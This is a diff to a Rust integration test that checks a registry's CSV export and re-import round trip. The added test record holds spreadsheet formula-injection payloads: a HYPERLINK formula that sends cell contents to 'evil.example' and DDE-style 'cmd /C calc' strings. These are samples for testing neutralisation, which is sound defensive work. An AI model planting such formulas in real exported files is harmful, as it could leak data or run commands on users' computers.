@@ -120,6 +120,8 @@ async fn export_then_import_into_an_empty_registry_gives_the_identical_registry(
         let r = app.import(sample.to_vec(), "text/csv", false).await;
         assert_eq!(r.status(), 200);
         app.create_ok(json!({"name": "Quote \"Q\", Comma", "aliases": ["नया, नाम"], "notes": "line one\nline two", "phones": ["7000000099"], "valid_until": "2030-03-31T18:30:00+05:30"})).await;
+        // Text a spreadsheet would run goes out behind a `'` and comes back without it.
+        app.create_ok(json!({"name": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")", "aliases": ["'=quoted", "@SUM(1+1)"], "designation": "+cmd|' /C calc'!A0", "organization": "@SUM(1+1)", "notes": "-2+3+cmd|' /C calc'!A0", "phones": ["7000000098"]})).await;
         let first = app.export().await;
 
         let fresh = TestAdmin::spawn(b).await;
@@ -139,6 +141,8 @@ async fn export_then_import_into_an_empty_registry_gives_the_identical_registry(
                 o.id.clone(),
                 o.name.clone(),
                 o.aliases.clone(),
+                o.designation.clone(),
+                o.organization.clone(),
                 o.phones.clone(),
                 o.status,
                 o.notes.clone(),
@@ -158,7 +162,7 @@ async fn export_then_import_into_an_empty_registry_gives_the_identical_registry(
             .json()
             .await
             .unwrap();
-        assert_eq!(report["unchanged"].as_array().unwrap().len(), 9);
+        assert_eq!(report["unchanged"].as_array().unwrap().len(), 10);
         assert!(
             report["created"].as_array().unwrap().is_empty()
                 && report["updated"].as_array().unwrap().is_empty()
